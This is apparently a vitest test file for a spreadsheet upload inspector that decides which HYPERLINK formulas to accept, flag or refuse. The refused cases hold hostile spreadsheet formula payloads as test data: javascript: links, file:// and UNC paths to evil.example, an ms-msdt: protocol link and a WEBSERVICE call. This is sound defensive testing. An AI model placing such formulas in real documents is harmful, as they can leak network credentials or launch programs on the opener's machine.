import { expect, it } from "vitest";
import { Scan } from "../../../src/intake/inspection/finding";
import { judgeCell, judgeFormula } from "../../../src/intake/inspection/formulas";

/** What becomes of a file with a formula. */
function outcome(formula: string): "taken" | "marked" | "refused" {
  const { acting, unknown } = judgeFormula(formula, new Scan());
  if (acting !== null) return "refused";
  return unknown.length > 0 ? "marked" : "taken";
}

it.each([
  'HYPERLINK("https://wa.me/"&B2)',
  'HYPERLINK("https://wa.me/"&SUBSTITUTE(B2,"0","62",1),"Chat")',
  'HYPERLINK("https://"&B2,"Situs")',
  'HYPERLINK("https://maps.example/?q="&A2&","&B2,"Peta")',
  'HYPERLINK(CONCATENATE("https://wa.me/",B2),"Chat")',
  'HYPERLINK(("https://wa.me/"&B2))',
  'HYPERLINK(_xlfn.CONCAT("mailto:",C2))',
  'HYPERLINK("mailto:"&C2&"?subject=Tarif")',
  'HYPERLINK("tel:"&C2)',
  'HYPERLINK("#\'"&A2&"\'!A1",A2)',
  'HYPERLINK("Lampiran/"&A2&".pdf")',
  'HYPERLINK("C:\\Tarif\\"&A2)',
  'IF(B2="","",HYPERLINK("https://wa.me/"&B2,"Chat"))',
])("a link that begins in the web or beside the file is taken: %s", (formula) => {
  expect(outcome(formula)).toBe("taken");
});

it.each([
  "HYPERLINK(B2)",
  'HYPERLINK(B2&"/share")',
  'HYPERLINK("/"&B2)',
  'HYPERLINK("java"&B2)',
  'HYPERLINK("file:"&B2)',
  'HYPERLINK("notes:"&B2)',
  'HYPERLINK(IF(A1=1,"https://a.example","https://b.example"))',
])("a link whose beginning is computed is marked: %s", (formula) => {
  expect(outcome(formula)).toBe("marked");
});

it.each([
  'HYPERLINK("java"&"script:alert(1)")',
  'HYPERLINK("file:"&"//evil.example/share")',
  'HYPERLINK("\\"&"\\evil.example\\"&A1)',
  'HYPERLINK("\\\\"&B2)',
  'HYPERLINK(("file://evil.example/"&B2))',
  'HYPERLINK(CONCATENATE("ms-msdt:","/id"))',
  'HYPERLINK("https://a.example/"&WEBSERVICE(B2))',
])("a link that starts a program or reaches into a network is refused, however it is put together: %s", (formula) => {
  expect(outcome(formula)).toBe("refused");
});

it("a cell of a table is judged by the same rules", () => {
  expect(judgeCell('=HYPERLINK("https://wa.me/"&B2)', new Scan())).toEqual({ acting: null, unknown: [] });
  expect(judgeCell('=HYPERLINK("file://evil.example/"&B2)', new Scan()).acting).toBe("HYPERLINK");
});
